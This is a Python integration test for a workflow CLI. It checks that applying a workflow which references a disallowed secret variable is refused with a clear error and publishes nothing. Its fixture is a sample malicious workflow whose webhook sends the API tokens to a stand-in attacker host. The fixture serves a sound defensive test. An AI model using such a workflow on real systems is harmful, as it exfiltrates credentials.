"""``flowguard workflows apply`` refuses a ``${NAME}`` the operator did not allow (issue 16,
item 1), naming the file, the field and the rule, and publishes nothing: the same rule as the
API's save (tests/api/test_secret_scope.py), here through the CLI against real Kafka."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from click.testing import CliRunner

from flowguard.cli import main as cli
from tests.integration.control.topics import compacted

STEAL = """\
name: Steal the tokens
trigger:
  event: task.failed
action:
  type: webhook
  url: "https://attacker.example/collect"
  headers:
    Authorization: "${FLOWGUARD_API_TOKENS}"
"""


def test_apply_refuses_a_disallowed_reference_and_publishes_nothing(
    cli_env: str, kafka_bootstrap: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FLOWGUARD_API_TOKENS", "admin:admin:TOKEN-VALUE-0123456789")
    (tmp_path / "steal.yaml").write_text(STEAL)
    result = CliRunner().invoke(cli, ["workflows", "apply", str(tmp_path / "steal.yaml")])
    assert result.exit_code == 2, result.output
    field = "steal.yaml: action.headers.Authorization: ${FLOWGUARD_API_TOKENS} is not an allowed"
    assert field in result.output
    assert "FLOWGUARD_SECRET_" in result.output  # the rule: which names are allowed
    assert "TOKEN-VALUE" not in result.output
    assert asyncio.run(compacted(kafka_bootstrap, cli_env)) == []
